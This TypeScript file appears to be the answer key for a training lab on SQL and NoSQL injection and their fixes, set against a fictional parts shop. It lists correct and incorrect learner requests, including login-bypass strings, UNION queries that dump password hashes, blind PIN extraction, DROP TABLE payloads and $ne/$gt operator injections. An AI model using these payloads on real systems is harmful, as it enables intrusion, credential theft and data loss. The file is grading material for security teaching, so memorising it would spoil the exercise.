import { BETWEEN } from '@/labs/http/written';
import { INJECTION_LAB } from '@/labs/exercises/injection-lab/lab';
import type { Answers } from './judges';

const solution = (id: string) => INJECTION_LAB.steps.find((step) => step.id === id)?.solution ?? '';
const split = (id: string) => solution(id).split(BETWEEN);
const all = (...requests: readonly string[]) => requests.join(BETWEEN);
const post = (path: string, body: unknown) =>
  `POST ${path}\nContent-Type: application/json\n\n${JSON.stringify(body)}`;
const search = (words: string, door = 'old') => `GET /${door}/search?q=${words}`;

const OWN = { email: 'customer-7@mail.example', password: 'three spare wheels' };
const STAFF = 'staff@sparewheel.example';
const login = (email: string, password = '', door = 'old') =>
  post(`/${door}/login`, { email, password });
const byCode = (email: unknown, code: unknown, door = 'old') =>
  post(`/${door}/documents/sign-in`, { email, code });
const ask = (question: string) => `GET /old/parts/BRK-2041' AND ${question} --`;
const PIN = '(SELECT pin FROM stockroom)';
const door = (pin: unknown) => post('/old/stockroom', { pin });
const orders = (status: string, at: string) => `GET /${at}/orders?status=${status}`;
const LEAK = "zzz' UNION ALL SELECT email, password_hash, id FROM accounts --";
const DROP = "'; DROP TABLE reviews; --";
const EMAILS = "zzz' UNION ALL SELECT email, email, id FROM accounts --";
const EVERYBODY = "x' OR '1'='1";
const SIGN_IN = login(OWN.email, OWN.password);
const NE = { $ne: '' };

/** Answers that are right, too. */
const RIGHT: Answers['right'] = {
  seam: [search("'"), all(search('brake'), search("brake' AND nothing --")), search("x';;'")],
  login: [
    login("x' OR id = 1 --"),
    login(STAFF, "') OR id = 1 --"),
    login("x' UNION SELECT 1, 'me' --"),
    login("x' OR '1'='1' --"),
  ],
  union: [
    search("zzz' UNION SELECT password_hash, email, id FROM accounts --"),
    search("zzz' UNION ALL SELECT string_agg(password_hash, ' '), '', 0 FROM accounts --"),
    login("x' UNION SELECT 1, string_agg(password_hash, ' ') FROM accounts --"),
  ],
  blind: [
    all(ask(`${PIN} = 46`), door(46)),
    all(
      ...[32, 8, 4, 2].map((bit) => ask(`${PIN} & ${bit} > 0`)),
      ask(`${PIN} & 81 = 0`),
      door(46),
    ),
    all(door(1), ask(`${PIN} BETWEEN 46 AND 46`), door(46)),
  ],
  drop: [
    search("'; DROP TABLE reviews CASCADE; SELECT '"),
    search("'; ALTER TABLE reviews RENAME TO gone; --"),
    login("'; DROP TABLE reviews --"),
  ],
  parameters: [
    split('parameters').toReversed().join(BETWEEN),
    all(search(EMAILS.replace('email, email', 'email, password_hash')), search(LEAK, 'bound')),
    all(search('brake', 'bound'), solution('parameters')),
  ],
  'least-privilege': [
    split('least-privilege').toReversed().join(BETWEEN),
    all(
      search("' UNION SELECT password_hash, '', 0 FROM accounts --", 'reader'),
      search("'; DROP TABLE reviews CASCADE --", 'reader'),
      search("' UNION SELECT '', string_agg(email, ' '), 0 FROM accounts --", 'reader'),
    ),
  ],
  'row-level-security': [
    all(SIGN_IN, orders("' OR true --", 'old'), orders("' OR true --", 'policies')),
    all(SIGN_IN, orders(EVERYBODY, 'policies'), orders(EVERYBODY, 'old')),
  ],
  operators: [
    byCode(STAFF, { $gt: '' }),
    byCode(STAFF, { $regex: '.' }),
    byCode({ $regex: '^staff' }, { $ne: null }),
    byCode(NE, NE),
  ],
  types: [
    all(byCode(STAFF, { $gt: '' }), byCode(STAFF, { $gt: '' }, 'checked'), split('types')[2] ?? ''),
    split('types').toReversed().join(BETWEEN),
  ],
};

/** What people send instead, and what they must be told. */
const WRONG: Answers['wrong'] = {
  seam: [
    ['could read every statement', search('brake')],
    ['could read every statement', search("''")],
    ['could read every statement', search("' OR true --")],
    ['Nothing was sent to', search("'", 'bound')],
    ['Nothing was sent to', login("'")],
    ['Nothing was sent. ', 'search'],
  ],
  login: [
    ['not as staff', SIGN_IN],
    ['not as staff', login("customer-8@mail.example' --")],
    ['Nobody', login(STAFF, 'three spare wheels')],
    ['Nobody', login(`${STAFF}'`, '')],
    ['Nobody', login(`${STAFF}' --`, '', 'bound')],
    ['Nobody', post('/old/login', { email: STAFF, password: { $ne: '' } })],
  ],
  union: [
    ['Not every hash', search('brake')],
    ['must have the same number', search("' UNION SELECT password_hash FROM accounts --")],
    ['cannot be matched', search("' UNION SELECT email, id, password_hash FROM accounts --")],
    [
      'Not every hash',
      search("' UNION SELECT password_hash, '', id FROM accounts WHERE id = 7 --"),
    ],
    ['Not every hash', search(LEAK, 'bound')],
    ['permission denied', search(LEAK, 'reader')],
    ['Not every hash', search(EMAILS)],
  ],
  blind: [
    ['100 PINs', door(46)],
    ['100 PINs', all('GET /old/parts/BRK-2041', 'GET /old/parts/NONE', door(46))],
    ['50 PINs', all(ask(`${PIN} > 49`), door(46))],
    ['still shut', split('blind').slice(0, 6).join(BETWEEN)],
    ['still shut', all(ask(`${PIN} = 46`), door(45))],
    ['still shut', all(ask(`${PIN} = 46`), door(1), door(2), door(3), door(46))],
    ['otherwise', all(ask('pg_current_xact_id_if_assigned() IS NULL'), door(46))],
    ['100 PINs', all(search(`' UNION SELECT '', '', pin FROM stockroom --`), door(46))],
    ['Nothing was sent', ''],
  ],
  drop: [
    ['still there', search('brake')],
    ['still there', search("'; DELETE FROM reviews; --")],
    ['still there', search(DROP, 'bound')],
    ['still there', search(DROP, 'reader')],
    ['still there', search("'; BEGIN; DROP TABLE reviews; --")],
    ['Everything is gone', search("'; DROP SCHEMA lab CASCADE; --")],
  ],
  parameters: [
    ['has not answered', search(LEAK)],
    ['did not show', search(LEAK, 'bound')],
    ['the same words', all(search(LEAK), search('brake', 'bound'))],
    ['the same words', all(search(LEAK), search(`${LEAK}-`, 'bound'))],
    ['did not show', all(search(DROP), search(DROP, 'bound'))],
    ['has not answered', all(search(LEAK), search(LEAK, 'reader'))],
  ],
  'least-privilege': [
    ['No DROP', search(LEAK, 'reader')],
    ['No attack', search(DROP, 'reader')],
    ['Now show', all(search(LEAK, 'reader'), search(DROP, 'reader'))],
    ['Now show', all(search(LEAK, 'reader'), search(DROP, 'reader'), search(EMAILS))],
    ['is gone', all(solution('least-privilege'), search(DROP))],
    ['is gone', search("'; RESET ROLE; DROP TABLE reviews; --", 'reader')],
    ['No attack', all(search(LEAK), search(DROP, 'bound'), search(EMAILS, 'reader'))],
  ],
  'row-level-security': [
    ['not logged in', all(orders(EVERYBODY, 'old'), orders(EVERYBODY, 'policies'))],
    ['no orders of others', all(SIGN_IN, orders('pending', 'old'), orders('pending', 'policies'))],
    ['has not answered', all(SIGN_IN, orders(EVERYBODY, 'old'))],
    ['the same status', all(SIGN_IN, orders(EVERYBODY, 'old'), orders('paid', 'policies'))],
    [
      'no orders of others',
      all(SIGN_IN, orders(EVERYBODY, 'bound'), orders(EVERYBODY, 'policies')),
    ],
    [
      'showed orders of others',
      all(
        SIGN_IN,
        orders(EVERYBODY, 'old'),
        orders("x' OR set_config('shop.account', '8', false) = '8", 'policies'),
      ),
    ],
  ],
  operators: [
    ['as yourself', byCode(OWN.email, '204771')],
    ['as yourself', byCode(OWN.email, NE)],
    ['Nobody', byCode(STAFF, '204771')],
    ['Nobody', byCode(`${STAFF}' --`, '')],
    ['not as staff', byCode('customer-8@mail.example', NE)],
    ['Nobody', byCode(STAFF, NE, 'checked')],
    ['Nobody', byCode(STAFF, { $where: 'true' })],
    ['Nobody', login(`${STAFF}' --`)],
  ],
  types: [
    ['refused nothing', byCode(STAFF, NE)],
    ['did not sign you in', byCode(STAFF, NE, 'checked')],
    ['the same body', all(byCode(STAFF, NE), byCode(STAFF, { $gt: '' }, 'checked'))],
    ['with your own code', all(byCode(STAFF, NE), byCode(STAFF, NE, 'checked'))],
    ['refused nothing', all(byCode(STAFF, NE), byCode(OWN.email, '204771', 'checked'))],
    ['refused nothing', all(byCode(STAFF, NE), 'POST /checked/documents/sign-in')],
  ],
};

export const ANSWERS: Answers = { right: RIGHT, wrong: WRONG };
